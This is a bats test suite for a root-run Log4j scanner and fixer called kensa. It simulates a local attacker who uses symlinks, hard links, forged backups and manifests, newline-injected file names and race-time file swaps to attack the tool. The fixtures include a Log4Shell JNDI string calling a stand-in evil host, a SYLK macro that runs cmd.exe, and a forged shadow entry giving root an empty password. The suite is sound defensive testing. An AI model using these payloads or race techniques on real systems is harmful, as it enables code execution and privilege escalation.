#!/usr/bin/env bats
# attack.bats - root runs kensa over folders an unprivileged user writes
# to; that user (kensa-attacker) plants symlinks, hard links, forged
# backups and odd names, or swaps files and folders at the exact moment
# kensa opens them (swap hook: tests/attack/swaphook.c + swapper.py).
# Each test proves one item of the hardening issue (7.x) and checks that
# the stand-in victim ($V/shadow, root 600) keeps its content, owner and
# mode.  Needs root; see tests/attack/helpers.bash.

bats_require_minimum_version 1.5.0

load helpers
load ../attack/helpers

setup_file() {
    attack_setup_file
}

setup() {
    attack_setup
}

teardown() {
    attack_teardown
}

# ---------------------------------------------------------------------------
# 7.1: the old "<jar>.<UTC>.kensa-bak.sha256" sidecar beside the jar was
# opened O_CREAT|O_TRUNC, following a symlink planted there.  Backups now go
# to the default folder /var/backups/kensa, never beside the jar.
@test "7.1 sidecar symlinks planted beside the jar for every second are never followed (default backup folder)" {
    local base="att71-$$-$RANDOM"
    DEFAULT_BAK_NAMES=("$base.jar" "$base-b.jar")
    mkdir "$A/app"
    att_copy "$VULN" "$A/app/$base.jar"
    att_copy "$VULN" "$A/app/$base-b.jar"
    chown "$AUID:$AGID" "$A/app"
    # for every second from 10 s ago to 5 min ahead: a.jar's sidecar name
    # points at the victim, b.jar's at files that do not exist yet
    as_attacker "$APY" - "$A/app" "$base" "$V/shadow" "$V" <<'PY'
import os, sys, time
d, base, victim, vdir = sys.argv[1:]
now = int(time.time())
for t in range(now - 10, now + 300):
    ts = time.strftime('%Y%m%dT%H%M%SZ', time.gmtime(t))
    os.symlink(victim, '%s/%s.jar.%s.kensa-bak.sha256' % (d, base, ts))
    os.symlink('%s/created-%s' % (vdir, ts),
               '%s/%s-b.jar.%s.kensa-bak.sha256' % (d, base, ts))
PY
    run --separate-stderr k log4j --fix "$A/app"
    echo "stdout: $output"; echo "stderr: $stderr"
    assert_victim_intact
    [ "$(ls -A "$V")" = "shadow" ]          # no dangling target created
    [ "$status" -eq 1 ]
    # nothing but the planted symlinks beside the jars
    [ -z "$(find "$A/app" -name '*kensa*' ! -type l)" ]
    local j b
    for j in "$base.jar" "$base-b.jar"; do
        [[ "$output" == *"fixed $A/app/$j: removed 1 class; original saved as /var/backups/kensa/"*"; now mitigated. Restart the application, then upgrade to 2.17.1"* ]]
        b=$(backup_of "$A/app/$j")
        [ "$(dirname "$b")" = /var/backups/kensa ]
        [[ "$(basename "$b")" =~ $(bak_name_re "$j") ]]
        [ "$(stat -c '%u %a %h %F' "$b")" = "0 600 1 regular file" ]
        [ "$(sha256sum <"$b")" = "$(sha256sum <"$VULN")" ]
        [ ! -e "$b.sha256" ] && [ ! -L "$b.sha256" ]
    done
}

# 7.1: a jar name holding newlines must not add lines to the manifest (nor
# to kensa's output).
@test "7.1 jar name with embedded newlines cannot inject a manifest line" {
    local name=$'x\nssh-ed25519 AAAA attacker\n.jar'
    mkdir "$A/app"
    att_copy "$VULN" "$A/app/$name"
    run --separate-stderr k log4j --fix --backup-dir "$T/bak" "$A/app"
    echo "stdout: $output"; echo "stderr: $stderr"
    assert_victim_intact
    [ "$status" -eq 1 ]
    # control bytes are escaped in the output: the name stays on one line
    ! printf '%s\n%s\n' "$output" "$stderr" | grep -qx 'ssh-ed25519 AAAA attacker'
    printf '%s\n' "$output" | grep -q "^fixed $A/app/x.*ssh-ed25519 AAAA attacker.*original saved as $T/bak/"
    [ "$(stat -c '%u %a %F' "$T/bak")" = "0 700 directory" ]
    local m="$T/bak/kensa-manifest.tsv"
    [ -f "$m" ] && [ ! -L "$m" ]
    [ "$(stat -c '%u' "$m")" = 0 ] && [ $((0$(stat -c '%a' "$m") & 022)) -eq 0 ]
    ! grep -qx 'ssh-ed25519 AAAA attacker' "$m"
    local b
    b=$(ls "$T/bak" | grep 'kensa-bak$')
    [ "$(echo "$b" | wc -l)" -eq 1 ]
    [[ "$b" =~ $(bak_name_re 'x_ssh-ed25519_AAAA_attacker_.jar') ]]
    manifest_check "$m" "$b" "$(sha256sum <"$VULN" | cut -d' ' -f1)" \
        "$AUID" "$AGID" 644 "$A/app/$name"
}

# ---------------------------------------------------------------------------
# 7.2 (a): --restore trusted a sidecar beside the backup, which anyone able
# to write there could forge to name any file on the host.
@test "7.2(a) a backup and sidecar forged by the attacker cannot restore over the victim" {
    as_attacker "$APY" - "$A" "$V/shadow" <<'PY'
import hashlib, sys
d, victim = sys.argv[1:]
data = b'root::0:0:99999:7:::\n'
b = d + '/evil.jar.20240101T000000Z.kensa-bak'
open(b, 'wb').write(data)
open(b + '.sha256', 'w').write('%s  %s\n' % (hashlib.sha256(data).hexdigest(), victim))
PY
    run --separate-stderr k log4j --restore "$A/evil.jar.20240101T000000Z.kensa-bak"
    echo "stdout: $output"; echo "stderr: $stderr"
    assert_victim_intact
    [ "$status" -eq 2 ]
    [ -z "$output" ]
    [ -n "$stderr" ]
}

# 7.2 (b): a manifest is trusted only in a folder root owns and alone can
# write.  The attacker plants the new form (manifest) and the old (sidecar).
@test "7.2(b) a forged kensa-manifest.tsv in an attacker folder is refused" {
    as_attacker mkdir -m 755 "$A/bak"
    as_attacker "$APY" - "$A/bak" "$V/shadow" <<'PY'
import hashlib, sys
d, victim = sys.argv[1:]
data = b'root::0:0:99999:7:::\n'
name = '20240101T000000Z-0123456789abcdef-shadow.kensa-bak'
open(d + '/' + name, 'wb').write(data)
h = hashlib.sha256(data).hexdigest()
open(d + '/kensa-manifest.tsv', 'w').write(
    '# kensa backup manifest v1\n%s\t%s\t0\t0\t600\t%s\n' % (name, h, victim))
open(d + '/' + name + '.sha256', 'w').write('%s  %s\n' % (h, victim))
PY
    local b="$A/bak/20240101T000000Z-0123456789abcdef-shadow.kensa-bak"
    run --separate-stderr k log4j --restore "$b"
    echo "stdout: $output"; echo "stderr: $stderr"
    assert_victim_intact
    [ "$status" -eq 2 ]
    [ -z "$output" ]
    [ -n "$stderr" ]
    # a root-owned folder does not help when the manifest is the attacker's
    mkdir -m 755 "$T/rbak"
    cp -p "$b" "$A/bak/kensa-manifest.tsv" "$b.sha256" "$T/rbak/"
    chown root:root "$T/rbak/$(basename "$b")"
    chmod 600 "$T/rbak/$(basename "$b")"
    run --separate-stderr k log4j --restore "$T/rbak/$(basename "$b")"
    echo "stdout: $output"; echo "stderr: $stderr"
    assert_victim_intact
    [ "$status" -eq 2 ]
    [ -z "$output" ]
}

# 7.2 (c): a genuine backup is restored only while its folder, manifest and
# file are root's alone: a group-writable manifest or folder, a backup
# replaced by an attacker-owned file or by a hard link, a path through a
# symlink are refused.  The same backup then restores (control).
@test "7.2(c) a genuine backup whose manifest, folder or file was tampered with is refused" {
    mkdir -m 755 "$T/app"
    cp "$VULN" "$T/app/a.jar"
    run --separate-stderr k log4j --fix --backup-dir "$T/bak" "$T/app"
    echo "stdout: $output"; echo "stderr: $stderr"
    [ "$status" -eq 1 ]
    local b fixed
    b=$(backup_of "$T/app/a.jar")
    [ -f "$b" ]
    fixed=$(fstate "$T/app/a.jar")
    cp -p "$b" "$T/genuine"

    # (1) replaced by a file of the same bytes owned by the attacker
    cp -p "$T/genuine" "$b.new" && chown "$AUID:$AGID" "$b.new" && mv "$b.new" "$b"
    run --separate-stderr k log4j --restore "$b"
    echo "attacker-owned: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$fixed"
    [ "$status" -eq 2 ] && [ -z "$output" ]

    # (2) replaced by a hard link (root's, same bytes: two links)
    rm -f "$b" && cp -p "$T/genuine" "$T/other" && ln "$T/other" "$b"
    run --separate-stderr k log4j --restore "$b"
    echo "hard link: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$fixed"
    [ "$status" -eq 2 ] && [ -z "$output" ]
    rm -f "$b" && cp -p "$T/genuine" "$b"

    # (3) the manifest made group-writable
    local m="$T/bak/kensa-manifest.tsv"
    [ -f "$m" ]
    chmod g+w "$m"
    run --separate-stderr k log4j --restore "$b"
    echo "g+w manifest: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$fixed"
    [ "$status" -eq 2 ] && [ -z "$output" ]
    chmod go-w "$m"

    # (4) the folder made group-writable
    chmod 770 "$T/bak"
    run --separate-stderr k log4j --restore "$b"
    echo "g+w folder: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$fixed"
    [ "$status" -eq 2 ] && [ -z "$output" ]
    chmod 700 "$T/bak"

    # (5) the backup named through a symlinked folder
    ln -s "$T/bak" "$T/bakln"
    run --separate-stderr k log4j --restore "$T/bakln/$(basename "$b")"
    echo "symlinked path: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$fixed"
    [ "$status" -eq 2 ] && [ -z "$output" ]

    # control: untouched, it restores
    run --separate-stderr k log4j --restore "$b"
    echo "control: $status $output $stderr"
    [ "$status" -eq 0 ]
    [ "$output" = "restored $T/app/a.jar from $b (sha256 verified)" ]
    [ "$(sha256sum <"$T/app/a.jar")" = "$(sha256sum <"$VULN")" ]
    assert_victim_intact
}

# 7.2 (d): a jar owned by the attacker, mode 0640: the backup is root's own
# copy (never a hard link to the attacker's inode, which the old code made
# when the backup folder was on the same file system), the manifest records
# the owner and mode, and --restore puts back bytes, owner and mode exactly.
@test "7.2(d) fix then restore of an attacker-owned 0640 jar: root-only copy, exact bytes, owner and mode" {
    local dirs=("$T/bak")    # same file system as the jar
    local shm=
    if [ -d /dev/shm ] && [ "$(stat -c %d /dev/shm)" != "$(stat -c %d "$T")" ]; then
        shm=$(mktemp -d /dev/shm/kensa-attack.XXXXXX)
        dirs+=("$shm/bak")  # another file system
    else
        echo "no second file system at /dev/shm: same-file-system case only"
    fi
    local h
    h=$(sha256sum <"$VULN" | cut -d' ' -f1)
    local d b rc=0
    for d in "${dirs[@]}"; do
        rm -rf "$A/app"
        mkdir "$A/app"
        att_copy "$VULN" "$A/app/a.jar"
        chmod 640 "$A/app/a.jar"
        chown "$AUID:$AGID" "$A/app"
        run --separate-stderr k log4j --fix --backup-dir "$d" "$A/app"
        echo "fix ($d): $status $output $stderr"
        [ "$status" -eq 1 ] || rc=1
        b=$(backup_of "$A/app/a.jar")
        [ "$(dirname "$b")" = "$d" ] || rc=1
        [[ "$(basename "$b")" =~ $(bak_name_re a.jar) ]] || rc=1
        echo "backup: $(stat -c '%u:%g %a %h %F' "$b")"
        [ "$(stat -c '%u:%g %a %h %F' "$b")" = "0:0 600 1 regular file" ] || rc=1
        [ "$(sha256sum <"$b" | cut -d' ' -f1)" = "$h" ] || rc=1
        [ ! -e "$b.sha256" ] || rc=1
        manifest_check "$d/kensa-manifest.tsv" "$(basename "$b")" "$h" \
            "$AUID" "$AGID" 640 "$A/app/a.jar" || rc=1
        [ "$(stat -c '%u:%g %a' "$A/app/a.jar")" = "$AUID:$AGID 640" ] || rc=1
        run --separate-stderr k log4j --restore "$b"
        echo "restore: $status $output $stderr"
        [ "$status" -eq 0 ] || rc=1
        [ "$output" = "restored $A/app/a.jar from $b (sha256 verified)" ] || rc=1
        [ "$(sha256sum <"$A/app/a.jar" | cut -d' ' -f1)" = "$h" ] || rc=1
        [ "$(stat -c '%u:%g %a %h %F' "$A/app/a.jar")" = "$AUID:$AGID 640 1 regular file" ] || rc=1
    done
    [ -n "$shm" ] && rm -rf "$shm"
    assert_victim_intact
    [ "$rc" -eq 0 ]
}

# ---------------------------------------------------------------------------
# 7.3: the fix reopened the jar by path; the attacker swaps the jar's
# folder for a symlink to a folder of root's (holding a file of the jar's
# name) between the scan and the fix's open.  Hook: the jar's 2nd open (the
# scan opens it once, the fix a second time).
@test "7.3 jar's parent folder swapped for a symlink when the fix opens the jar: victim untouched" {
    mkdir "$A/app"
    att_copy "$VULN" "$A/app/a.jar"
    chown "$AUID:$AGID" "$A/app"
    cp "$FX/plain/log4j-core-2.15.0.jar" "$V/a.jar"
    chmod 600 "$V/a.jar"
    local vjar vlist tlist
    vjar=$(fstate "$V/a.jar")
    vlist=$(ls -A "$V")
    swap_run a.jar 2 symlink-replace "$A/app" "$V" "$A/app.away" -- \
        log4j --fix --backup-dir "$T/bak" "$A"
    [ "$SWAPPED" = "ran symlink-replace" ]
    [ "$status" -ne 124 ]
    assert_same_state "$V/a.jar" "$vjar"
    assert_victim_intact
    [ "$(ls -A "$V")" = "$vlist" ]
    [ "$status" -ne 0 ] || [[ "$stderr" == *"not fixed: "* ]]
    # nothing created outside the attacker's folder but the backup folder
    # (the backup folder may or may not have been created)
    tlist=$(ls -A "$T" | grep -vx bak | sort | tr '\n' ' ')
    [ "$tlist" = "ack.fifo att go.fifo hook.log swapper.out swapper.py victim " ]
}

# ---------------------------------------------------------------------------
# 7.4: --backup-dir must be root's alone, reached without a symlink; the
# fix refuses before changing anything otherwise.
@test "7.4 --backup-dir owned by the attacker, or writable by group or others, is refused before any change" {
    mkdir -m 755 "$T/app"
    cp "$VULN" "$T/app/a.jar"
    local jar
    jar=$(fstate "$T/app/a.jar")
    as_attacker mkdir -m 755 "$A/bak"
    run --separate-stderr k log4j --fix --backup-dir "$A/bak" "$T/app"
    echo "attacker's: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$jar"
    [ -z "$(ls -A "$A/bak")" ]
    [ "$status" -eq 2 ]
    [[ "$stderr" == *"$A/bak"* ]]
    [[ "$output" != *"fixed "* ]]
    local mode
    for mode in 775 757 1777; do
        rm -rf "$T/wbak"
        mkdir "$T/wbak"
        chmod "$mode" "$T/wbak"
        run --separate-stderr k log4j --fix --backup-dir "$T/wbak" "$T/app"
        echo "root's, mode $mode: $status $output $stderr"
        assert_same_state "$T/app/a.jar" "$jar"
        [ -z "$(ls -A "$T/wbak")" ]
        [ "$status" -eq 2 ]
        [[ "$stderr" == *"$T/wbak"* ]]
    done
    # a parent that does not exist
    run --separate-stderr k log4j --fix --backup-dir "$T/nope/bak" "$T/app"
    echo "no parent: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$jar"
    [ "$status" -eq 2 ]
    [ ! -e "$T/nope" ]
    assert_victim_intact
}

@test "7.4 --backup-dir through a symlink is refused before any change" {
    mkdir -m 755 "$T/app"
    cp "$VULN" "$T/app/a.jar"
    local jar
    jar=$(fstate "$T/app/a.jar")
    # the folder itself is a symlink (to a good folder of root's)
    mkdir -m 700 "$T/realbak"
    ln -s "$T/realbak" "$T/bakln"
    run --separate-stderr k log4j --fix --backup-dir "$T/bakln" "$T/app"
    echo "symlink: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$jar"
    [ -z "$(ls -A "$T/realbak")" ]
    [ "$status" -eq 2 ]
    [[ "$stderr" == *"$T/bakln"* ]]
    # a parent is a symlink (the attacker's, to a folder of root's)
    mkdir -m 755 "$T/realparent"
    as_attacker ln -s "$T/realparent" "$A/parent"
    run --separate-stderr k log4j --fix --backup-dir "$A/parent/bak" "$T/app"
    echo "symlinked parent: $status $output $stderr"
    assert_same_state "$T/app/a.jar" "$jar"
    [ ! -e "$T/realparent/bak" ]
    [ "$status" -eq 2 ]
    [[ "$stderr" == *"$A/parent/bak"* ]]
    assert_victim_intact
}

# The old backup name held the whole jar path, so a deep path (> 255 bytes)
# could not be backed up (or fixed).
@test "7.4 a jar and a backup folder at paths of 300+ bytes are fixed and backed up" {
    local n100 long deep bd jar
    n100=$(printf 'd%.0s' $(seq 100))
    deep="$A/$n100/$n100/$n100"
    long="$(printf 'L%.0s' $(seq 146)).jar"            # 150 bytes
    mkdir -p "$deep"
    att_copy "$VULN" "$deep/$long"
    chown -R "$AUID:$AGID" "$A/$n100"
    mkdir -p "$T/$n100/$n100"
    bd="$T/$n100/$n100/bak-$n100"
    jar="$deep/$long"
    [ ${#jar} -gt 300 ] && [ ${#bd} -gt 300 ]
    run --separate-stderr k log4j --fix --backup-dir "$bd" "$A"
    echo "stdout: $output"; echo "stderr: $stderr"
    assert_victim_intact
    [ "$status" -eq 1 ]
    [[ "$output" == *"fixed $jar: removed 1 class; original saved as $bd/"*"now mitigated."* ]]
    local b
    b=$(backup_of "$jar")
    [ "$(dirname "$b")" = "$bd" ]
    # the basename, cut to 100 bytes
    [[ "$(basename "$b")" =~ $(bak_name_re "$(printf 'L%.0s' $(seq 100))") ]]
    [ "$(sha256sum <"$b")" = "$(sha256sum <"$VULN")" ]
    [ "$(stat -c '%u %a %h' "$b")" = "0 600 1" ]
    [ "$(stat -c '%u %a' "$bd")" = "0 700" ]
    manifest_check "$bd/kensa-manifest.tsv" "$(basename "$b")" \
        "$(sha256sum <"$VULN" | cut -d' ' -f1)" "$AUID" "$AGID" 644 "$jar"
}

# ---------------------------------------------------------------------------
# 7.5: -o FILE and --export-iocs FILE were opened with fopen(FILE, "w"): a symlink
# there truncated and rewrote its target.
@test "7.5 -o and --export-iocs refuse a symlink at FILE (to the victim, or dangling)" {
    mkdir -m 755 "$T/scan" "$T/logs"
    cp "$VULN" "$T/scan/a.jar"
    printf '%s\n' '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' >"$T/logs/access.log"
    as_attacker ln -s "$V/shadow" "$A/out.json"
    as_attacker ln -s "$V/shadow" "$A/iocs.csv"
    as_attacker ln -s "$V/new" "$A/dangling.csv"
    run --separate-stderr k scan --json -o "$A/out.json" "$T/scan"
    echo "-o symlink: $status $output $stderr"
    assert_victim_intact
    [ "$status" -eq 2 ]
    [ -n "$stderr" ]
    [ "$(readlink "$A/out.json")" = "$V/shadow" ]
    run --separate-stderr k logs --export-iocs "$A/iocs.csv" "$T/logs"
    echo "--export-iocs symlink: $status $output $stderr"
    assert_victim_intact
    [ "$status" -eq 2 ]
    [ -n "$stderr" ]
    run --separate-stderr k logs --export-iocs "$A/dangling.csv" "$T/logs"
    echo "--export-iocs dangling: $status $output $stderr"
    [ "$status" -eq 2 ]
    [ "$(ls -A "$V")" = "shadow" ]
    run --separate-stderr k scan -o "$A/dangling.csv" "$T/scan"
    [ "$status" -eq 2 ]
    [ "$(ls -A "$V")" = "shadow" ]
    assert_victim_intact
}

# 7.5: a hard link to a file of someone else's (made by root here:
# protected_hardlinks stops the attacker, not every system has it), or a
# file the attacker owns, is refused too; /dev/null and a new file work.
@test "7.5 -o and --export-iocs refuse a hard link or another user's file; /dev/null and a new file work" {
    mkdir -m 755 "$T/scan" "$T/logs"
    cp "$VULN" "$T/scan/a.jar"
    printf '%s\n' '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' >"$T/logs/access.log"
    ln "$V/shadow" "$A/out.json"
    VICTIM_BEFORE=$(fstate "$V/shadow")      # two links now
    run --separate-stderr k scan --json -o "$A/out.json" "$T/scan"
    echo "-o hard link: $status $output $stderr"
    assert_victim_intact
    [ "$status" -eq 2 ]
    [ -n "$stderr" ]
    run --separate-stderr k logs --export-iocs "$A/out.json" "$T/logs"
    echo "--export-iocs hard link: $status $output $stderr"
    assert_victim_intact
    [ "$status" -eq 2 ]
    rm "$A/out.json"
    VICTIM_BEFORE=$(fstate "$V/shadow")
    # the attacker's own file
    as_attacker sh -c "printf 'mine\n' > '$A/mine.csv'"
    local mine
    mine=$(fstate "$A/mine.csv")
    run --separate-stderr k scan -o "$A/mine.csv" "$T/scan"
    echo "-o other owner: $status $output $stderr"
    assert_same_state "$A/mine.csv" "$mine"
    [ "$status" -eq 2 ]
    run --separate-stderr k logs --export-iocs "$A/mine.csv" "$T/logs"
    echo "--export-iocs other owner: $status $output $stderr"
    assert_same_state "$A/mine.csv" "$mine"
    [ "$status" -eq 2 ]
    # controls
    run --separate-stderr k scan -o /dev/null "$T/scan"
    [ "$status" -eq 1 ]
    [ "$(stat -c %t:%T /dev/null)" = "1:3" ]
    run --separate-stderr k scan --json -o "$T/new.json" "$T/scan"
    [ "$status" -eq 1 ]
    [ "$(count_alerts <"$T/new.json")" -eq 1 ]
    run --separate-stderr k logs --export-iocs "$T/new.csv" "$T/logs"
    [ "$status" -eq 1 ]
    grep -q '^"host","x.evil.example"' "$T/new.csv"
    run --separate-stderr k logs --export-iocs /dev/null "$T/logs"
    [ "$status" -eq 1 ]
    assert_victim_intact
}

# ---------------------------------------------------------------------------
# 7.6: names never hide files (the walk skipped *.kensa-bak, *.sha256 and
# .*.kensa-tmp-* by name); only kensa's own backup folders are skipped, and
# only when root owns them and alone can write them.
@test "7.6 files named like kensa's backups or temporaries are reported; only root's own backup folder is skipped" {
    local tr="$T/tree"
    mkdir -m 755 "$tr"
    mv "$A" "$tr/att"
    A="$tr/att"
    local n
    for n in .app.kensa-tmp-1.jar x.jar.kensa-bak x.jar.kensa-bak.sha256 x.kensa-bak; do
        att_copy "$VULN" "$A/$n"
    done
    # the attacker's folder with a manifest of its own
    as_attacker mkdir -m 755 "$A/fakebak"
    att_copy "$VULN" "$A/fakebak/a.jar"
    as_attacker sh -c "printf '# kensa backup manifest v1\n' > '$A/fakebak/kensa-manifest.tsv'"
    # root's folder with a manifest, but group-writable
    mkdir -m 770 "$tr/gw"
    cp "$VULN" "$tr/gw/a.jar"
    printf '# kensa backup manifest v1\n' >"$tr/gw/kensa-manifest.tsv"
    chmod 600 "$tr/gw/kensa-manifest.tsv"
    # a genuine backup folder, made by --fix
    mkdir -m 755 "$tr/app"
    cp "$VULN" "$tr/app/a.jar"
    run --separate-stderr k log4j --fix --backup-dir "$tr/kbak" "$tr/app"
    echo "fix: $status $output $stderr"
    [ "$status" -eq 1 ]
    [ -n "$(ls "$tr/kbak")" ]
    run --separate-stderr k log4j --json "$tr"
    echo "stderr: $stderr"
    local got want
    got=$(printf '%s\n' "$output" | jq -r 'select(.event.kind!="event") | "\(.file.path) \(.kensa.verdict)"' | sort)
    want=$(printf '%s\n' \
        "$A/.app.kensa-tmp-1.jar vulnerable" \
        "$A/fakebak/a.jar vulnerable" \
        "$A/x.jar.kensa-bak vulnerable" \
        "$A/x.jar.kensa-bak.sha256 vulnerable" \
        "$A/x.kensa-bak vulnerable" \
        "$tr/app/a.jar mitigated" \
        "$tr/gw/a.jar vulnerable" | sort)
    echo "got:"; echo "$got"; echo "want:"; echo "$want"
    [ "$got" = "$want" ]
    [ "$status" -eq 1 ]
    assert_victim_intact
}

# ---------------------------------------------------------------------------
# 7.9: the walk listed a name, then the scanner opened it by path,
# following whatever was there by then.  Hook: the first open of the name.
@test "7.9(a) a listed file swapped for a symlink to a root-only jar outside the root: not read, not reported" {
    mkdir -m 700 "$T/secret"
    cp "$VULN" "$T/secret/core.jar"
    chmod 600 "$T/secret/core.jar"
    local secret
    secret=$(fstate "$T/secret/core.jar")
    as_attacker mkdir -m 755 "$A/scan"
    as_attacker sh -c "printf 'nothing to see\n' > '$A/scan/harmless.jar'"
    swap_run harmless.jar 1 symlink-replace "$A/scan/harmless.jar" \
        "$T/secret/core.jar" "$A/harmless.away" -- log4j --json "$A/scan"
    [ "$SWAPPED" = "ran symlink-replace" ]
    [ "$status" -ne 124 ]
    never_opened "$(devino "$T/secret/core.jar")"
    [ "$(printf '%s\n' "$output" | count_alerts)" -eq 0 ]
    [ "$status" -ne 1 ]
    assert_same_state "$T/secret/core.jar" "$secret"
    assert_victim_intact
}

@test "7.9(b) a listed file swapped for a symlink to a FIFO outside the root: never opened, no hang" {
    mkdir -m 755 "$T/outside"
    mkfifo -m 666 "$T/outside/fifo"
    as_attacker mkdir -m 755 "$A/scan"
    as_attacker sh -c "printf 'nothing to see\n' > '$A/scan/data.jar'"
    swap_run data.jar 1 symlink-replace "$A/scan/data.jar" \
        "$T/outside/fifo" "$A/data.away" -- log4j --json "$A/scan"
    [ "$SWAPPED" = "ran symlink-replace" ]
    [ "$status" -ne 124 ]
    never_opened "$(devino "$T/outside/fifo")"
    [ "$(printf '%s\n' "$output" | count_alerts)" -eq 0 ]
    assert_victim_intact
}

@test "7.9(c) a listed folder swapped for a symlink to a folder outside the root: not reported, not fixed" {
    mkdir -m 755 "$T/outside" "$T/outside/lib"
    cp "$VULN" "$T/outside/lib/core.jar"
    local outside odi
    outside=$(fstate "$T/outside/lib/core.jar")
    odi=$(devino "$T/outside/lib/core.jar")
    local round
    for round in scan fix; do
        rm -rf "$A/scan" "$A/lib.away"
        as_attacker mkdir -m 755 "$A/scan" "$A/scan/weblib"
        as_attacker sh -c "printf 'nothing to see\n' > '$A/scan/weblib/readme.txt'"
        if [ $round = scan ]; then
            swap_run weblib 1 symlink-replace "$A/scan/weblib" \
                "$T/outside/lib" "$A/lib.away" -- log4j --json "$A/scan"
        else
            swap_run weblib 1 symlink-replace "$A/scan/weblib" \
                "$T/outside/lib" "$A/lib.away" -- log4j --fix --backup-dir "$T/bak" "$A/scan"
            [[ "$output" != *"fixed "* ]]
        fi
        [ "$SWAPPED" = "ran symlink-replace" ]
        [ "$status" -ne 124 ]
        [[ "$output" != *core.jar* ]]
        [ "$status" -ne 1 ]
        never_opened "$odi"
        assert_same_state "$T/outside/lib/core.jar" "$outside"
        [ "$(ls -A "$T/outside/lib")" = "core.jar" ]
    done
    assert_victim_intact
}

# ---------------------------------------------------------------------------
# Folders kensa creates files in (doc --extract, rules --export): root's
# kensa pointed at a path the attacker controls must not write through a
# link the attacker planted (anywhere in the path), nor into a folder the
# attacker owns or may write (they could pre-seed or read what root
# writes there).

# An SYLK sheet whose Auto_open runs a command: a document with macros
# to extract (the text is the attacker's).
extract_doc() {
    printf 'ID;P\nC;X1;Y1;K0;EEXEC("cmd.exe /c calc.exe")\nC;X1;Y2;K0;EHALT()\nNN;NAuto_open;ER1C1\nE\n' >"$1"
}

@test "7.10 doc --extract refuses a symlink, a link in the path, and a folder the attacker owns or may write" {
    mkdir -m 755 "$T/docs"
    extract_doc "$T/docs/m.slk"
    # a symlink as the folder, and as a component of the path
    as_attacker ln -s "$V" "$A/ex"
    as_attacker mkdir -m 755 "$A/real"
    as_attacker ln -s "$V" "$A/real/link"
    # the attacker's own folder, and a root folder others may write
    as_attacker mkdir -m 755 "$A/mine"
    mkdir -m 777 "$T/open"
    local d
    for d in "$A/ex" "$A/ex/" "$A/real/link" "$A/mine" "$T/open"; do
        run --separate-stderr k doc --no-summary --extract "$d" "$T/docs/m.slk"
        echo "--extract $d: $status $output $stderr"
        [ "$status" -eq 2 ]
        [[ "$stderr" == *refused* ]]
    done
    [ "$(ls -A "$V")" = "shadow" ]
    [ -z "$(ls -A "$A/mine")" ]
    [ -z "$(ls -A "$T/open")" ]
    assert_victim_intact
    # root's own folder under the attacker's: written, root-only files
    mkdir -m 700 "$A/rootdir"
    run --separate-stderr k doc --no-summary --extract "$A/rootdir" "$T/docs/m.slk"
    [ "$status" -eq 1 ]
    local f
    f=$(ls "$A/rootdir")
    [ -n "$f" ]
    [ "$(stat -c %u:%a "$A/rootdir/$f")" = "0:600" ]
    grep -q 'EXEC' "$A/rootdir/$f"
}

@test "7.10 rules --export refuses a symlink, a link in the path, and a folder the attacker owns or may write" {
    as_attacker ln -s "$V" "$A/ex"
    as_attacker mkdir -m 755 "$A/real"
    as_attacker ln -s "$V" "$A/real/link"
    as_attacker mkdir -m 755 "$A/mine"
    mkdir -m 777 "$T/open"
    local d
    for d in "$A/ex" "$A/real/link" "$A/real/link/new" "$A/mine" "$T/open"; do
        run --separate-stderr k rules --export "$d"
        echo "--export $d: $status $output $stderr"
        [ "$status" -eq 2 ]
        [[ "$stderr" == *refused* ]]
    done
    [ "$(ls -A "$V")" = "shadow" ]
    [ -z "$(ls -A "$A/mine")" ]
    [ -z "$(ls -A "$T/open")" ]
    assert_victim_intact
    # a new folder is made root-only; the rules land in it
    run --separate-stderr k rules --export "$T/new"
    [ "$status" -eq 0 ]
    [ "$(stat -c %u:%a "$T/new")" = "0:700" ]
    ls "$T/new" | grep -q '\.yar$'
}

@test "a file exchanged for a FIFO between the listing and the open is only stat'ed, never opened (a device node would act)" {
    att_copy /dev/null "$A/evil.bin"
    as_attacker mkfifo "$A/pipe"
    local fi
    fi=$(devino "$A/pipe")
    # the walk's open of evil.bin: the attacker exchanges the names first
    swap_run evil.bin 1 exchange "$A/evil.bin" "$A/pipe" -- \
        scan "$A" --no-persistence
    [[ "$SWAPPED" == ran* ]]
    [ "$status" -le 1 ]
    grep -q "$fi" "$T/hook.log"     # it was looked at (O_PATH) ...
    never_opened "$fi"              # ... and never opened
}
